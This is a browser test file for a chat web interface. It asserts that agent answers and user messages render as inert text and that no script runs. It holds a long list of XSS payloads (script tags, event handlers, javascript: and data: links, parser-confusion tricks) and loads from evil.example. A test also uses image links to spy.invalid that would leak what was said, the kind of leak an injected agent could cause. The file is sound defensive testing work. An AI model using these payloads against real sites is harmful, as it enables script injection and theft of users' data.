"""No script from an answer ever runs, whatever it is dressed as; shown in a real Chromium."""

from collections.abc import AsyncIterator

import pytest
from page_stage import Reader, Stage, beside_browser, beside_it
from playwright.async_api import Browser

from adapters.web.settings import WebSettings
from bridge.events import Button

pytestmark = [pytest.mark.browser, beside_it]

# Each would set window.owned, open a dialog, load something, or restyle the page.
BATTERY = [
    "<script>owned = 1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=owned=1>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=owned=1>",
    "<svg><script>owned=1</script></svg>",
    "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:owned=1"><text y="20">click</text></a></svg>',
    "<body onload=owned=1>",
    "<iframe src=javascript:parent.owned=1></iframe>",
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "<object data=javascript:owned=1></object>",
    '<embed src="data:text/html,<script>owned=1</script>">',
    "<details open ontoggle=owned=1>x</details>",
    "<video><source onerror=owned=1></video>",
    "<input autofocus onfocus=owned=1>",
    "<form action=javascript:owned=1><button>press</button></form>",
    "<button onclick=owned=1>press</button>",
    "<a href=javascript:owned=1>press</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=owned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=owned=1>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=owned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
    "<template><img src=x onerror=owned=1></template>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    '<b style="position:fixed;inset:0;background:red">x</b>',
    '<p id=words name=composer class=unseen data-says="/forget">x</p>',
    "<b onmouseover=owned=1>x</b>",
    "<i/onclick=owned=1>x</i>",
    "<br onclick=owned=1>",
    "[press](javascript:owned=1)",
    "[press](JaVaScRiPt:owned=1)",
    "[press](&#106;avascript:owned=1)",
    "[press](java\tscript:owned=1)",
    "[press](<java&#10;script:owned=1>)",
    "[press](vbscript:owned=1)",
    "[press](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)",
    "[press](//evil.example)",
    "[press](/web/web/page/main.js)",
    '[press](https://example.com "x\\" onclick=\\"owned=1")',
    "![x](javascript:owned=1)",
    "![x](data:image/svg+xml,<svg/onload=owned=1>)",
    '![x" onerror="owned=1](https://example.invalid/x.png)',
    '![x](https://example.invalid/"onerror="owned=1)',
    "[press][r]\n\n[r]: javascript:owned=1",
    "<javascript:owned=1>",
    '```"><script>owned=1</script>\nx\n```',
    "```html\n<script>owned=1</script><img src=x onerror=owned=1>\n```",
    "- ```js\n  <img src=x onerror=owned=1>\n  ```",
    "`<img src=x onerror=owned=1>`",
    "| <img src=x onerror=owned=1> |\n|-|\n| <script>owned=1</script> |",
    "<!-- --!><img src=x onerror=owned=1> -->",
    "<![CDATA[<img src=x onerror=owned=1>]]>",
    "<?x <img src=x onerror=owned=1>?>",
    "<a\nhref=javascript:owned=1>press</a>",
    "\u2028<script>owned=1</script>\u2029",
]

# What an answer may consist of, whatever it was written with.
_STRAY = """() => [...document.querySelectorAll("#log *")].flatMap((e) => [
    ...(["SCRIPT", "STYLE", "IFRAME", "OBJECT", "EMBED", "FORM", "LINK", "META", "BASE", "MATH",
        "TEMPLATE", "DETAILS", "VIDEO", "TEXTAREA"].includes(e.tagName) ? [e.tagName] : []),
    ...[...e.attributes]
        .filter(({name}) => /^on|^style$|^id$|^name$|^srcdoc$|^formaction$|^data-/.test(name))
        .map(({name}) => `${e.tagName} ${name}`),
    ...(e.tagName === "A" && e.hasAttribute("href")
        ? [/^(https?|mailto|tel):/.test(e.getAttribute("href")) ? "" : e.outerHTML,
           e.rel.includes("noopener") && e.target === "_blank" ? "" : e.outerHTML] : []),
    ...(e.tagName === "IMG" && !/^https?:/.test(e.getAttribute("src")) ? [e.outerHTML] : []),
]).filter(Boolean)"""


@beside_browser
async def stage() -> AsyncIterator[Stage]:
    async with Stage(WebSettings(access="open")) as stage:
        yield stage


@beside_browser
async def reader(browser: Browser, stage: Stage) -> AsyncIterator[Reader]:
    """A reader whose agent says what it is told, word for word."""

    stage.script = lambda stage, event: stage.say(event.text)
    context = await browser.new_context()
    reader = await Reader.sit_down(context)
    await reader.page.goto(stage.url)
    yield reader
    await context.close()


async def test_no_answer_runs_anything(stage: Stage, reader: Reader) -> None:
    await reader.write("hello")
    await reader.page.wait_for_selector(".answer")
    asked: list[str] = []
    reader.page.on("request", lambda request: asked.append(request.url))
    for attack in BATTERY:
        message = await stage.say(attack[: len(attack) // 2], final=False)
        await stage.change(message, attack)
        await stage.change(message, attack, final=True)
    count = f"document.querySelectorAll('.answer[aria-busy=false]').length === {len(BATTERY) + 1}"
    await reader.until(count)
    assert await reader.page.evaluate(_STRAY) == []
    for link in await reader.page.locator("#log a[href]").all():
        assert (await link.get_attribute("href") or "").startswith("https://example.")
    for button in await reader.page.locator("#log a:not([href]), #log b, #log i").all():
        await button.dispatch_event("click")
        await button.dispatch_event("mouseover")
    assert await reader.page.evaluate("window.owned") is None
    assert await reader.page.locator("body").is_visible()
    assert reader.page.url == stage.url
    assert not [line for line in reader.complaints if "dialog" in line]
    assert not [url for url in asked if "evil.example" in url]
    assert len(reader.page.context.pages) == 1


async def test_what_somebody_writes_is_shown_and_not_obeyed(stage: Stage, reader: Reader) -> None:
    await reader.write("<img src=x onerror=owned=1> **not bold**")
    await reader.sees(".mine .bubble", "<img src=x onerror=owned=1> **not bold**")
    assert await reader.count(".mine img, .mine strong") == 0
    assert await reader.page.evaluate("window.owned") is None


async def test_a_hostile_button_is_only_words(stage: Stage, reader: Reader) -> None:
    await reader.write("hi")
    await reader.page.wait_for_selector(".answer")
    says = "<script>owned=1</script>"
    await stage.say("Choose", buttons=(Button("<img src=x onerror=owned=1>", says),))
    await reader.page.click("#log .suggestions button")
    await reader.sees(".mine .bubble", says)
    assert await reader.page.evaluate("window.owned") is None


async def test_raw_html_is_shown_as_the_text_it_is(stage: Stage, reader: Reader) -> None:
    await reader.write("Use vector<int> and <think>hard</think>, a < b && c > d & H<sub>2</sub>O")
    await reader.sees(
        ".answer .md", "Use vector<int> and <think>hard</think>, a < b && c > d & H2O"
    )
    assert await reader.count(".answer sub") == 1


async def test_safe_markdown_is_all_there(stage: Stage, reader: Reader) -> None:
    await reader.write(
        "# One\n\n1. a\n2. b\n   - c\n\n- [x] done\n- [ ] open\n\n"
        "| l | r |\n|:-|-:|\n| 1 | 2 |\n\n> q\n\n~~s~~ **b** *i* `c`\n\n---\n\n"
        "7. seven\n\n[l](https://example.com/a_(b)) <https://example.com> mail@example.com\n\n"
        "```python\nprint(1)\n```\n\n![p](https://example.invalid/p.png)\n\nline\nnext"
    )
    await reader.page.wait_for_selector(".hljs-built_in")
    for selector, times in {
        "h1": 1,
        "ol": 2,
        "ul": 2,
        'ol[start="7"]': 1,
        'input[type="checkbox"][disabled]': 2,
        "input:checked": 1,
        'td[align="right"]': 1,
        "blockquote": 1,
        "del": 1,
        "strong": 1,
        "em": 1,
        "hr": 1,
        'a[href^="https://example.com"]': 2,
        'a[href="https://example.invalid/p.png"]': 1,
        'a[href="mailto:mail@example.com"]': 1,
        'a[target="_blank"][rel="noopener noreferrer nofollow"]': 4,
        "img": 0,  # pictures follow as files
        "figure pre code": 1,
        "p br": 1,
    }.items():
        assert await reader.count(f".answer .md {selector}") == times, selector


async def test_no_address_in_an_answer_is_told_that_it_was_read(
    stage: Stage, reader: Reader
) -> None:
    """An agent could be talked into a picture whose address tells what was said."""
    asked: list[str] = []
    reader.page.on("request", lambda request: asked.append(request.url))
    await reader.write(
        "![a <b>name</b>](https://spy.invalid/?said=secret) ![](http://spy.invalid/2)\n\n"
        "[![badge](https://spy.invalid/3)](https://example.com/project) ![x](data:image/png,x)"
    )
    await reader.sees(".answer .md a", "a <b>name</b>")
    await reader.sees(".answer .md a[href='http://spy.invalid/2']", "http://spy.invalid/2")
    await reader.sees(".answer .md a[href='https://example.com/project']", "badge")
    assert await reader.count(".answer .md a") == 3
    assert not any("spy.invalid" in url for url in asked)


async def test_the_policy_alone_stops_a_script_that_got_through(
    stage: Stage, reader: Reader
) -> None:
    """The last fence, tried without the others."""
    await reader.page.wait_for_selector("#welcome:not([hidden])")
    refused = await reader.page.evaluate(
        """() => [
            () => { document.body.innerHTML += "<img src=x onerror='owned=1'>"; },
            () => { document.createElement("img").setAttribute("onerror", "owned=1"); },
            () => { document.createElement("script").text = "owned=1"; },
            () => { setTimeout("owned=1"); },
        ].map((attempt) => { try { attempt(); } catch (error) { return error.name; } })"""
    )
    assert refused == ["TypeError", "TypeError", "TypeError", "TypeError"]
    assert await reader.page.evaluate("window.owned") is None
